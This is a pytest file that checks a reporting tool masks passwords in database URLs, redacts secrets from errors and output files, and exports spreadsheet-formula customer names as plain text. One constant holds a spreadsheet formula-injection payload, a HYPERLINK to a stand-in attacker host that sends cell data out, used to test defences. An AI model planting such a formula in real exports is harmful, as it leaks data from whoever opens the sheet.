"""Secrets never shown: URLs masked, secret values redacted, and none reaching any file of a run."""
from __future__ import annotations

import pytest

from soe_helpers.core.secrets import mask_url, redact, secret_values, url_secrets


@pytest.mark.parametrize("url, shown", [
    ("postgresql+psycopg://soe_app@127.0.0.1:55432/soe_store?password=Qs-9x!k",
     "postgresql+psycopg://soe_app@127.0.0.1:55432/soe_store?password=***"),
    ("postgresql+psycopg://soe_app:pw-1234@db:5432/soe?sslmode=require&PassWord=pw-5678",
     "postgresql+psycopg://soe_app:***@db:5432/soe?sslmode=require&PassWord=***"),
    # every secret-like parameter, any case, '&' or ';' separated; harmless ones (sslmode, keyring) kept
    ("mssql+pyodbc://u@dsn?PWD=a1;pass=a2&Secret=a3&token=a4&KEY=a5&api_key=a6&Access_Token=a7&sig=a8"
     "&Signature=a9&keyring=k&db_password=b1&X-Amz-Signature=b2",
     "mssql+pyodbc://u@dsn?PWD=***;pass=***&Secret=***&token=***&KEY=***&api_key=***&Access_Token=***&sig=***"
     "&Signature=***&keyring=k&db_password=***&X-Amz-Signature=***"),
    ("postgresql://u:p@ss/w0rd@h/db", "postgresql://u:***@h/db"),  # a raw '@' or '/' typed in the password
    ("sqlite:////srv/soe/store.sqlite", "sqlite:////srv/soe/store.sqlite"),
    ("sqlite:////srv/a@b/store.sqlite?password=x", "sqlite:////srv/a@b/store.sqlite?password=***"),
    ("https://reports.example.com/@team/x.html?week=2026-W47#top", "https://reports.example.com/@team/x.html?week=2026-W47#top"),
    ("mysql://reader@h/erp?password=", "mysql://reader@h/erp?password="),  # nothing to hide
    ("not a url: password=x", "not a url: password=x"),
    ("", ""),
])
def test_mask_url_hides_userinfo_password_and_secret_query_values(url, shown):
    assert mask_url(url) == shown


def test_url_secrets_are_the_raw_and_decoded_values():
    assert url_secrets("postgresql://u:p%40ss@h/db?token=t%2Fk&sslmode=require") == ["p%40ss", "t%2Fk", "p@ss", "t/k"]
    assert url_secrets("sqlite:///x.sqlite") == []


def test_redact_masks_urls_in_text_and_each_secret_value():
    text = ('could not connect to "postgresql://soe:pw-1234@db/erp?sslmode=require&password=pw-5678": '
            "FATAL: pw-5678 rejected; smtp-secret-1 too; ab stays")
    assert redact(text, ["smtp-secret-1", "pw-5678", "ab"]) == (
        'could not connect to "postgresql://soe:***@db/erp?sslmode=require&password=***": '
        "FATAL: *** rejected; *** too; ab stays")


def test_secret_values_cover_query_string_passwords_and_mail_reexports_them(monkeypatch):
    from soe_helpers.core.params import load_params
    from soe_helpers.deliver import mail

    url = "postgresql+psycopg://soe_app@127.0.0.1:55432/soe_store?password=Qs-9x-secret"
    values = secret_values(load_params(), {"SOE_STORE_URL": url, "SOE_SMTP_PASSWORD": "smtp-pw-1"})
    assert values == [url, "Qs-9x-secret", "smtp-pw-1"]
    assert mail.redact is redact and mail.secret_values is secret_values and mail.SMTP_PASSWORD_ENV == "SOE_SMTP_PASSWORD"


def test_the_store_shows_and_errors_with_its_url_masked(tmp_path):
    from soe_helpers.store.engine import Store, StoreError

    store = Store(f"sqlite:///{tmp_path / 's.sqlite'}?password=Qs-9x-secret")
    assert store.display_url == f"sqlite:///{tmp_path / 's.sqlite'}?password=***"
    with pytest.raises(StoreError) as e:  # a folder that does not exist: sqlite cannot open the file
        Store(f"sqlite:///{tmp_path / 'nope' / 's.sqlite'}?password=Qs-9x-secret")
    assert "Qs-9x-secret" not in str(e.value) and "password=***" in str(e.value)


def test_a_failed_login_names_the_store_without_its_password():
    from soe_helpers.store.engine import Store, StoreError

    secret = "Qs-9x-login-secret"
    with pytest.raises(StoreError) as e:  # nothing listens on port 1: the connection fails at once
        Store(f"postgresql+psycopg://soe_app@127.0.0.1:1/soe_store?password={secret}&connect_timeout=2")
    msg = str(e.value)
    assert secret not in msg, msg
    assert msg.startswith("the store postgresql+psycopg://soe_app@127.0.0.1:1/soe_store?connect_timeout=2&password=*** "
                          "cannot be opened: "), msg


def test_soe_actions_list_shows_the_store_masked(tmp_path):
    from conftest import soe

    secret = "Qs-9x-list-secret"
    res = soe("actions", "list", env={"SOE_STORE_URL": f"sqlite:///{tmp_path / 's.sqlite'}?password={secret}",
                                      "SOE_OUTPUTS": str(tmp_path)})
    assert res.returncode == 0, res.stderr
    assert secret not in res.stdout + res.stderr and "password=***" in res.stdout, res.stdout


HOSTILE_CUSTOMER = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
STORE_SECRET = "Qs-9x-store-pw-7d2e"


@pytest.mark.e2e
def test_no_file_of_a_pack_run_holds_the_store_password_or_a_live_formula(demo_dir, tmp_path):
    """A whole weekly run with the store password in the URL's query string and a customer named as
    a formula: no file written (reports, notebooks, email, manifest, store, logs) holds the password,
    and no export holds a formula."""
    import pandas as pd
    import openpyxl

    from conftest import DEMO_WEEK, copy_demo, soe

    data = copy_demo(demo_dir, tmp_path / "data")
    crm = pd.read_csv(data / "crm_accounts.csv", dtype=str, keep_default_na=False, encoding="cp1252")
    orders = pd.read_csv(data / "erp_sales_order_lines.csv", usecols=["Account ID", "Qty Ordered", "Unit Price"])
    value = (pd.to_numeric(orders["Qty Ordered"]) * pd.to_numeric(orders["Unit Price"])).groupby(orders["Account ID"]).sum()
    second = value.sort_values(ascending=False).index[1]  # the largest is already <script> in the demo
    crm.loc[crm["Account ID"] == second, "Account Name"] = HOSTILE_CUSTOMER
    crm.to_csv(data / "crm_accounts.csv", index=False, encoding="cp1252")
    out = tmp_path / "outputs"
    url = f"sqlite:///{out / 'shared_store.sqlite'}?password={STORE_SECRET}"
    out.mkdir()
    res = soe("run", "--week", DEMO_WEEK, "--data-dir", str(data),
              env={"SOE_OUTPUTS": str(out), "SOE_STORE_URL": url, "SOE_DATA_DIR": str(data)})
    assert res.returncode == 0, res.stderr[-2000:]
    (out / "run.stdout.log").write_text(res.stdout + res.stderr)  # the console is a log too
    leaks = [str(f.relative_to(out)) for f in sorted(out.rglob("*")) if f.is_file()
             and STORE_SECRET.encode() in f.read_bytes()]
    assert leaks == [], f"the store password is in: {leaks}"
    run_dir = next(p for p in (out / DEMO_WEEK).iterdir() if (p / "manifest.json").is_file())
    manifest = (run_dir / "manifest.json").read_text()
    assert "password=***" in manifest
    register = run_dir / "variance_register.xlsx"
    wb = openpyxl.load_workbook(register)
    formulas = [f"{ws.title}!{c.coordinate}" for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == [], f"{register.name}: formula cells {formulas}"
    hostile_cells = [c.value for c in wb.active["D"] if isinstance(c.value, str) and c.value.startswith(HOSTILE_CUSTOMER)]
    assert hostile_cells, f"{register.name}: the hostile name is not in it: test is void"
    cells = {p.name: pd.read_csv(p, dtype=str, keep_default_na=False).to_numpy().ravel() for p in run_dir.glob("*.csv")}
    assert any(v.startswith("'" + HOSTILE_CUSTOMER) for v in cells["variance_register.csv"]), "name not exported as text"
    live = sorted({name for name, vals in cells.items() for v in vals if v.startswith(("=", "@", "+"))})
    assert live == [], f"CSV cells a spreadsheet would run, in: {live}"
